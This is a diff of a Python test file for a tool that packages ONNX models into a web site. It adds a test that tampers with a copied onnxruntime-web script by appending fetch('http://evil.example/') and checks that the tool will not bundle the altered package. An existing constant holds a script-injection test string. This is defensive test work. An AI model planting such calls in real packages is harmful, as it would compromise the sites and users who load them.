@@ -2,6 +2,7 @@
 
 import json
 import os
+import shutil
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
@@ -19,7 +20,7 @@ import dni_runtime
 from dni_deploy.ship import ship_web
 from dni_deploy.ship.model_file import read_model_file
 from dni_deploy.ship.web.describe import model_bytes
-from dni_runtime import Endpoint, InputError, Metadata, ModelError
+from dni_runtime import Endpoint, Metadata, ModelError
 
 SCRIPT = "</title><script>alert(1)</script>"
 NOT_EVERYWHERE = "has a name that not every host and browser takes; expected at most 250 bytes, no control character"
@@ -227,12 +228,21 @@ def test_more_than_two_gigabytes_are_refused_before_they_are_read(tmp_path: Path
         read_model_file(path)
 
 
-def test_two_models_of_one_name_are_told(tmp_path: Path, ort: Path):
-    for folder in ("a", "b"):
-        (tmp_path / folder).mkdir()
-    models = [
-        save(conv_stack(), tmp_path / "a" / "Stra\u00dfe.onnx"),
-        save(conv_stack(), tmp_path / "b" / "stra\u00dfe.onnx"),
-    ]
-    with pytest.raises(InputError, match="would have the same name; rename one"):
-        ship_web(models, tmp_path / "site", ort=ort)
+def test_scripts_that_lie_about_are_not_put_into_a_site(ort: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    """In a folder above, which may be anybody's, a package that says that it is the right one."""
+    package = tmp_path / "node_modules" / "onnxruntime-web"
+    shutil.copytree(
+        ort / "dist", package / "dist", ignore=lambda _, all_names: {n for n in all_names if "wasm" not in n}
+    )
+    (package / "package.json").write_text((ort / "package.json").read_text())
+    with (package / "dist" / "ort.wasm.min.mjs").open("a") as file:
+        file.write("fetch('http://evil.example/')")
+    (tmp_path / "here").mkdir()
+    monkeypatch.chdir(tmp_path / "here")
+    monkeypatch.setenv("DNI_CACHE_DIR", "")
+    monkeypatch.setenv("PATH", str(tmp_path))  # no npm
+    model = save(conv_stack(), tmp_path / "stack.onnx")
+    dni("ship", "web", model, "-o", "site", "--no-webgpu").assert_error("which is not installed here, and npm, which")
+    assert names(tmp_path / "here") == []
+    shutil.copyfile(ort / "dist" / "ort.wasm.min.mjs", package / "dist" / "ort.wasm.min.mjs")
+    dni("ship", "web", model, "-o", "site", "--no-webgpu").assert_ok()
